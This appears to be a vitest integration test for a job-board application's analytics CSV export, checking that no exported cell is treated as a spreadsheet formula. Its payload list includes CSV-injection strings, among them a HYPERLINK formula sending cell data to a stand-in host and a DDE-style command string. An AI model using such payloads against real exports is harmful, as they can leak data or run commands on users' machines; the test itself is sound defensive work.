import { createHash, randomUUID } from 'node:crypto';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { CSV_CELLS } from '../../../../src/lib/download.ts';
import { DATA_TYPES } from '../../../../supabase/functions/export-analytics-data/data-types.ts';
import { asService, signUp, visitorKey } from '../../clients.ts';
import { bearer, call, nextPhone } from '../../raw.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '+1+cmd|x',
  '-2+3',
  '@SUM(A1:A9)',
  ' =1+1',
  '\u00A0=1+1',
  '＝1+1',
  '"=1+1"',
  'x\n=1+1',
  'x",=1+1,"',
];
// An admin of its own: what others record of theirs is counted elsewhere.
const admin = await signUp();
const service = asService();
await service.from('user_roles').insert({ user_id: admin.id, role: 'admin' }).throwOnError();
const mark = randomUUID().slice(0, 8);
const hash = createHash('sha256').update(visitorKey()).digest('hex');
const phone = () => `+1${nextPhone().replace(/\D/g, '')}`;

for (const [at, formula] of FORMULAS.entries()) {
  const text = `${formula} ${mark}`;
  const job = { title: text, company: text, location: text, employer_name: text, pay_range: text, is_approved: false };
  const [posted] =
    (
      await service
        .from('jobs')
        .insert(job as never)
        .select('id')
        .throwOnError()
    ).data ?? [];
  const application = {
    first_name: text,
    phone_number: phone(),
    visitor_hash: hash,
    job_title: text,
    company: text,
    location: text,
    job_type: text,
    pay_range: text,
    position_applied_for: text,
    work_experience: text,
    source: text,
  };
  const reapply = {
    visitor_hash: hash,
    job_id: posted?.id,
    reason: 'abandoned_step1',
    user_name: text,
    job_title: text,
  };
  await Promise.all([
    service.from('job_applications').insert(application).throwOnError(),
    service.from('alert_optins').insert({ first_name: text, phone_number: phone(), utm_source: text }).throwOnError(),
    service
      .from('reapply_queue')
      .insert({ ...reapply, job_company: text, job_location: text })
      .throwOnError(),
    service
      .from('admin_messages')
      .insert({ channel: 'email', subject: text, message_content: text, recipient_email: `${mark}@example.com` })
      .throwOnError(),
    service
      .from('notification_logs')
      .insert({ message_type: text, status: 'failed', message_content: text })
      .throwOnError(),
    service
      .from('alert_deliveries')
      .insert({ delivery_method: 'sms', status: 'error', error_message: text })
      .throwOnError(),
    service
      .from('outbox')
      .insert({
        idempotency_key: `${mark}-${at}`,
        kind: 'account',
        channel: 'email',
        recipient: `${mark}@example.com`,
        status: 'dead',
        last_error: text,
      } as never)
      .throwOnError(),
    service.from('import_batches').insert({ file_name: text, imported: at }).throwOnError(),
  ]);
}

it.each(DATA_TYPES)('no cell of %s is a formula to a spreadsheet', async (dataType) => {
  const days = { startDate: '2020-01-01', endDate: '2099-12-31' };
  const { status, text } = await call(
    'POST',
    'functions/v1/export-analytics-data',
    { dataType, ...days },
    bearer(admin.token),
  );
  expect(status).toBe(200);
  const { data, errors } = Papa.parse<string[]>(text.trim());
  expect(errors).toEqual([]);
  expect(data.flat().filter((cell) => CSV_CELLS.escapeFormulae.test(cell))).toEqual([]);
  // What was written stands there, as text.
  const marked = data.flat().filter((cell) => cell.includes(mark));
  const holdsOurs = !['payouts', 'audit'].includes(dataType);
  expect(marked.length >= FORMULAS.length).toBe(holdsOurs);
});
